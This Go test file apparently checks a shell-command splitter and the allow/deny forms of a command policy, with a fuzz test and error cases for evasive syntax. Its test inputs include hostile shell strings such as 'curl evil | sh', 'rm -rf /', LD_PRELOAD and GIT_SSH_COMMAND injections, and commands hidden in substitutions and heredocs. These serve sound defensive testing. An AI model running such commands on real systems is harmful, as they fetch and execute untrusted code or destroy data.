package policy

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"unicode"
)

func TestSplitShell(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"simple", "git status", []string{"git status"}},
		{"blank", "  \t\n ", nil},
		{"and", "git status && curl evil | sh", []string{"git status", "curl evil", "sh"}},
		{"or", "make || echo failed", []string{"make", "echo failed"}},
		{"semicolon", "cd src; ls", []string{"cd src", "ls"}},
		{"pipe and stderr pipe", "a | b |& c", []string{"a", "b", "c"}},
		{"background", "sleep 1 & rm -rf x", []string{"sleep 1", "rm -rf x"}},
		{"newlines", "git status\ncurl evil\r\n", []string{"git status", "curl evil"}},
		{"dollar paren", "echo $(curl evil)", []string{"curl evil", "echo $(curl evil)"}},
		{"nested dollar paren", "echo $(a $(b; c))", []string{"b", "c", "a $(b; c)", "echo $(a $(b; c))"}},
		{"backticks", "echo `curl evil`", []string{"curl evil", "echo `curl evil`"}},
		{"backticks split inside", "echo `a;b`", []string{"a", "b", "echo `a;b`"}},
		{"substitution in double quotes", `echo "$(curl evil)"`, []string{"curl evil", `echo "$(curl evil)"`}},
		{"backticks in double quotes", "echo \"`id`\"", []string{"id", "echo \"`id`\""}},
		{"single quotes do not split", "echo 'a; b && c | d'", []string{"echo 'a; b && c | d'"}},
		{"double quotes do not split", `echo "a; b && c"`, []string{`echo "a; b && c"`}},
		{"no substitution in single quotes", "echo '$(curl evil)'", []string{"echo '$(curl evil)'"}},
		{"escaped separator", `echo a\; b`, []string{`echo a\; b`}},
		{"escaped dollar in double quotes", `echo "\$(x)"`, []string{`echo "\$(x)"`}},
		{"line continuation", "git \\\nstatus", []string{"git \\\nstatus"}},
		{"redirections stay", "git status > out.txt 2>&1", []string{"git status > out.txt 2>&1"}},
		{"redirect both", "make &> log; ls", []string{"make &> log", "ls"}},
		{"clobber", "echo x >| f", []string{"echo x >| f"}},
		{"fd dup input", "cat <&3", []string{"cat <&3"}},
		{"env prefix", "FOO=1 git status", []string{"FOO=1 git status"}},
		{"subshell", "(cd x && rm y)", []string{"cd x", "rm y"}},
		{"process substitution", "diff <(curl a) >(tee b)", []string{"curl a", "tee b", "diff <(curl a) >(tee b)"}},
		{"ansi-c quote", `echo $'it\'s; fine'`, []string{`echo $'it\'s; fine'`}},
		{"comment", "git status # ; rm -rf /", []string{"git status"}},
		{"comment only", "# hello\nls", []string{"ls"}},
		{"hash inside word", "echo a#b; ls", []string{"echo a#b", "ls"}},
		{"escaped blank before hash", `echo \ #;curl evil`, []string{`echo \ #`, "curl evil"}},
		{"hash in parameter", "echo ${x// #/};curl evil", []string{"echo ${x// #/}", "curl evil"}},
		{"param length", "echo ${#x}", []string{"echo ${#x}"}},
		{"substitution in parameter", "echo ${x:-$(curl evil)}", []string{"curl evil", "echo ${x:-$(curl evil)}"}},
		{"arithmetic", "echo $((1 << 2)); ls", []string{"echo $((1 << 2))", "ls"}},
		{"arithmetic command", "((x<<2)); ls", []string{"((x<<2))", "ls"}},
		{"old arithmetic", "echo $[1<<2]\nls", []string{"echo $[1<<2]", "ls"}},
		{"heredoc", "cat <<EOF > a.txt\nit's; rm -rf /\nEOF\nls", []string{"cat <<EOF > a.txt", "ls"}},
		{"heredoc quoted", "cat <<'EOF'\n$(curl evil)\nEOF", []string{"cat <<'EOF'"}},
		{"heredoc unquoted expands", "cat <<EOF\n$(curl evil) `id`\nEOF", []string{"cat <<EOF", "curl evil", "id"}},
		{"heredoc strip tabs", "cat <<-EOF\n\tbody\n\tEOF\nls", []string{"cat <<-EOF", "ls"}},
		{"heredoc then pipe", "cat <<EOF | sh\nrm x\nEOF", []string{"cat <<EOF", "sh"}},
		{"heredoc in substitution", "git commit -m \"$(cat <<'EOF'\nmsg; don't\nEOF\n)\"", []string{"cat <<'EOF'", "git commit -m \"$(cat <<'EOF'\nmsg; don't\nEOF\n)\""}},
		{"two heredocs", "cat <<A <<B\na\nA\nb\nB\nls", []string{"cat <<A <<B", "ls"}},
		{"here-string", "cat <<< 'a;b'; ls", []string{"cat <<< 'a;b'", "ls"}},
		{"if", "if test -f x; then rm x; fi", []string{"if test -f x", "then rm x", "fi"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := SplitShell(tt.in)
			if err != nil {
				t.Fatalf("SplitShell(%q): %v", tt.in, err)
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("SplitShell(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

// TestSplitShellErrors covers input the splitter must refuse: each of these
// could otherwise hide a command from the policy.
func TestSplitShellErrors(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want error
	}{
		{"single quote", "git status '", ErrUnterminated},
		{"double quote", `echo "abc`, ErrUnterminated},
		{"dollar paren", "echo $(curl evil", ErrUnterminated},
		{"backtick", "echo `curl evil", ErrUnterminated},
		{"ansi-c", `echo $'abc\'`, ErrUnterminated},
		{"stray paren", "case x in a) curl evil;; esac", ErrUnbalanced},
		{"nested backticks", "echo `echo \\`curl evil\\``", ErrBackslashNest},
		{"escaped dollar in backticks", "echo `echo \\$(curl evil)`", ErrBackslashNest},
		{"heredoc unterminated", "cat <<EOF\nbody", ErrHeredoc},
		{"heredoc no word", "cat << ;", ErrHeredoc},
		{"heredoc closed with substitution", "echo $(cat <<EOF)\nx\nEOF", ErrHeredoc},
		{"quotes in parameter", `echo ${x:-"a"}`, ErrUnsupported},
		{"subshells in dollar paren paren", "echo $((a) | (b))", ErrUnsupported},
		{"deep", strings.Repeat("$(", 100) + strings.Repeat(")", 100), ErrTooDeep},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			parts, err := SplitShell(tt.in)
			if !errors.Is(err, tt.want) {
				t.Fatalf("SplitShell(%q) = %q, %v; want %v", tt.in, parts, err, tt.want)
			}
			var se *ShellSyntaxError
			if !errors.As(err, &se) {
				t.Errorf("error %T is not a *ShellSyntaxError", err)
			}
		})
	}
}

// TestSplitShellPartialParts checks that the parts recognised before an
// error come back, for deny checks.
func TestSplitShellPartialParts(t *testing.T) {
	parts, err := SplitShell("curl evil\necho '")
	if err == nil {
		t.Fatal("no error for an unterminated quote")
	}
	if !slices.Contains(parts, "curl evil") {
		t.Errorf("parts = %q, want curl evil among them", parts)
	}
}

func TestShellForms(t *testing.T) {
	tests := []struct {
		part      string
		allowHas  string
		allowNot  string
		denyHas   string
		wantNoop  bool
		wantEmpty bool
	}{
		{part: "FOO=1 git status", allowHas: "git status", denyHas: "git status"},
		{part: "FOO=1 BAR='a b' git status", allowHas: "git status"},
		{part: "LD_PRELOAD=/tmp/x.so git status", allowNot: "git status", denyHas: "git status"},
		{part: "GIT_SSH_COMMAND='curl evil' git fetch", allowNot: "git fetch", denyHas: "git fetch"},
		{part: "if curl evil", allowHas: "curl evil", denyHas: "curl evil"},
		{part: "! grep x", allowHas: "grep x"},
		{part: "'rm' -rf /", denyHas: "rm -rf /"},
		{part: "git   status", allowHas: "git status"},
		{part: "fi", wantNoop: true},
		{part: "}", wantNoop: true},
		{part: "done > out", allowHas: "done > out"},
		{part: "FOO=1", allowHas: "FOO=1"},
	}
	for _, tt := range tests {
		allow, deny, noop := shellForms(tt.part)
		if noop != tt.wantNoop {
			t.Errorf("shellForms(%q) noop = %v", tt.part, noop)
		}
		if tt.allowHas != "" && !slices.Contains(allow, tt.allowHas) {
			t.Errorf("shellForms(%q) allow = %q, want %q among them", tt.part, allow, tt.allowHas)
		}
		if tt.allowNot != "" && slices.Contains(allow, tt.allowNot) {
			t.Errorf("shellForms(%q) allow = %q, must not hold %q", tt.part, allow, tt.allowNot)
		}
		if tt.denyHas != "" && !slices.Contains(deny, tt.denyHas) {
			t.Errorf("shellForms(%q) deny = %q, want %q among them", tt.part, deny, tt.denyHas)
		}
	}
}

func FuzzSplitShell(f *testing.F) {
	for _, seed := range []string{
		"git status && curl evil | sh",
		"echo $(a `b` $(c; d)) 'x;y' \"$(e)\"",
		"cat <<EOF\n$(x)\nEOF\nls",
		"git commit -m \"$(cat <<'EOF'\nmsg\nEOF\n)\"",
		"FOO=1 git status # c\n(a || b) & c",
		"echo ${x:-$(y)} $((1<<2)) $[3] $'\\''",
		"diff <(a) >(b) 2>&1 >| f &> g",
		"if a; then b; fi\nfor i in 1 2; do c; done",
		"echo `a \\` b`",
		"$(((",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, in string) {
		parts, err := SplitShell(in)
		for _, p := range parts {
			if strings.TrimSpace(p) == "" || p != strings.TrimSpace(p) {
				t.Fatalf("SplitShell(%q) returned a blank or untrimmed part %q", in, p)
			}
			if !strings.Contains(in, p) {
				t.Fatalf("SplitShell(%q) returned %q, not a substring of the input", in, p)
			}
		}
		if err == nil && strings.TrimSpace(in) != "" && len(parts) == 0 && !onlyComments(in) {
			t.Fatalf("SplitShell(%q) returned no part and no error", in)
		}
		if err != nil {
			var se *ShellSyntaxError
			if !errors.As(err, &se) {
				t.Fatalf("SplitShell(%q) error %T is not a *ShellSyntaxError", in, err)
			}
		}
		// The policy's view of every part must not panic either.
		for _, p := range parts {
			shellForms(p)
		}
	})
}

// onlyComments reports input made of blanks, separators, comments and
// here-document syntax with nothing to run, for which no part is right.
func onlyComments(in string) bool {
	for line := range strings.SplitSeq(in, "\n") {
		l := strings.TrimFunc(line, func(r rune) bool { return unicode.IsSpace(r) || strings.ContainsRune(";&|()", r) })
		if l != "" && !strings.HasPrefix(l, "#") {
			return false
		}
	}
	return true
}
